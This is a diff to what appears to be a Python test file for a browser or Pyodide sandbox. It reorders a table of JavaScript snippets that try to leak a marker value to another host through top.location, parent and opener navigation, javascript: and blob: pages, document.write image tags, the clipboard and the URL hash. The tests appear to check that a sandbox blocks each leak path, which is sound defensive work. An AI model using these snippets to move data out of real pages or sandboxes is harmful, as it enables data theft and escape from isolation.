@@ -280,12 +280,13 @@ LEAVING: dict[str, str] = {
     """,
     "top.location =": "top.location = `${other}/leak?${mark}`",
     "parent.location.replace": "parent.location.replace(`${other}/leak?${mark}`)",
-    "opener's location =": "top.opener.location = `${other}/leak?${mark}`",
     "javascript: address": "location = `javascript:void fetch('${other}/leak?${mark}')`",
     "blob: page": """
       location = URL.createObjectURL(new Blob([`<img src="${other}/leak?${mark}">`], { type: 'text/html' }));
     """,
     "document.write": "document.open(); document.write(`<img src='${other}/leak?${mark}'>`); document.close();",
+    # The last: the observer, who is the opener, goes with it.
+    "opener's location =": "top.opener.location = `${other}/leak?${mark}`",
 }
 RTC = """
   let Peer = self.RTCPeerConnection;
@@ -394,9 +395,9 @@ WINDOW: dict[str, str | tuple[str, Seen]] = {
     ),
 }
 WINDOW_ALONE: dict[str, tuple[str, Seen]] = {
-    **{name: (GOING % code.strip(), "request") for name, code in LEAVING.items()},
     "the clipboard": ("await navigator.clipboard.writeText(mark)", "told"),
     "the top page's address": ("top.location.hash = mark; await sleep(300)", "told"),
+    **{name: (GOING % code.strip(), "request") for name, code in LEAVING.items()},
 }
 
 # Not here: a lazy file of Emscripten's (an XMLHttpRequest that waits) and its call to eval; refused, they end Pyodide.
